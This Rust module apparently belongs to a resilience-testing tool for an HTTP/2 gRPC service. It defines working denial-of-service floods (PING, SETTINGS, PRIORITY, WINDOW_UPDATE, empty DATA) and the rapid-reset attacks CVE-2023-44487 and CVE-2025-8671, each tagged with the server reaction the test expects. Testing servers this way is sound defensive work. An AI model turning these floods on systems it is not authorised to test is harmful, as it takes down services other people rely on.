//! Frames that cost the sender little: floods of every kind that HTTP/2 has known.

use super::{Attack, Attacking, Expected, Flood, attack};
use crate::frames::{
    ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame,
};
use crate::hpack;
use crate::site::Target;
use crate::wire::Manners;
use tokio::time::Instant;

const LIST: &str = "/fermata.v1.SessionService/ListSessions";
/// Frames in one go.
const MANY: u32 = 500;

pub(super) fn all() -> Vec<Attack> {
    vec![
        attack("PING flood", Expected::Held, |t, u| same(t, u, PING, 0, &[7; 8], Manners::Rude)),
        attack("PING flood, answers not read", Expected::Held, |t, u| {
            same(t, u, PING, 0, &[7; 8], Manners::Deaf)
        }),
        attack("SETTINGS flood", Expected::Held, |t, u| {
            same(t, u, SETTINGS, 0, &[0, 3, 0, 0, 0, 100], Manners::Rude)
        }),
        attack("SETTINGS flood, answers not read", Expected::Held, |t, u| {
            same(t, u, SETTINGS, 0, &[0, 3, 0, 0, 0, 100], Manners::Deaf)
        }),
        attack("SETTINGS that nobody sent, confirmed", Expected::CutAtOnce, |t, u| {
            same(t, u, SETTINGS, ACK, &[], Manners::Rude)
        }),
        attack("frames of no known kind", Expected::Held, |t, u| {
            same(t, u, 0xbe, 0, &[0; 64], Manners::Rude)
        }),
        attack("PRIORITY flood", Expected::Held, priorities),
        attack("WINDOW_UPDATE flood", Expected::CutAtOnce, |t, u| {
            same(t, u, WINDOW_UPDATE, 0, &[0x10, 0, 0, 0], Manners::Rude)
        }),
        attack("empty DATA flood", Expected::Held, empty_data),
        attack("rapid reset", Expected::CutAtOnce, rapid_reset),
        attack("rapid reset, the server resets", Expected::CutAtOnce, made_to_reset),
    ]
}

/// The same frame of the connection over and over.
fn same(
    target: Target,
    until: Instant,
    kind: u8,
    flags: u8,
    payload: &[u8],
    manners: Manners,
) -> Attacking {
    let mut chunk = Vec::new();
    for _ in 0..MANY {
        frame(&mut chunk, kind, flags, 0, payload);
    }
    Flood { manners, ..Flood::of(move |_| chunk.clone()) }.run(target, until)
}

/// Streams of a client have odd numbers that rise.
fn streams(number: u32) -> impl Iterator<Item = u32> {
    (0..MANY).map(move |i| ((number * MANY + i) * 2 + 1) & 0x7fff_ffff)
}

fn priorities(target: Target, until: Instant) -> Attacking {
    Flood::of(|number| {
        let mut chunk = Vec::new();
        for stream in streams(number) {
            frame(&mut chunk, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
        }
        chunk
    })
    .run(target, until)
}

fn empty_data(target: Target, until: Instant) -> Attacking {
    let mut first = Vec::new();
    frame(&mut first, HEADERS, END_HEADERS, 1, &hpack::call(LIST, &target.attacker));
    let mut chunk = Vec::new();
    for _ in 0..MANY {
        frame(&mut chunk, DATA, 0, 1, &[]);
    }
    Flood { first, ..Flood::of(move |_| chunk.clone()) }.run(target, until)
}

/// CVE-2023-44487: a call, and at once its end.
fn rapid_reset(target: Target, until: Instant) -> Attacking {
    let fields = hpack::call(LIST, &target.attacker);
    Flood::of(move |number| {
        let mut chunk = Vec::new();
        for stream in streams(number) {
            frame(&mut chunk, HEADERS, END_HEADERS | END_STREAM, stream, &fields);
            frame(&mut chunk, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        }
        chunk
    })
    .run(target, until)
}

/// CVE-2025-8671: a call, and a mistake that makes the server end it.
fn made_to_reset(target: Target, until: Instant) -> Attacking {
    let fields = hpack::call(LIST, &target.attacker);
    Flood::of(move |number| {
        let mut chunk = Vec::new();
        for stream in streams(number) {
            frame(&mut chunk, HEADERS, END_HEADERS, stream, &fields);
            frame(&mut chunk, WINDOW_UPDATE, 0, stream, &[0, 0, 0, 0]);
        }
        chunk
    })
    .run(target, until)
}
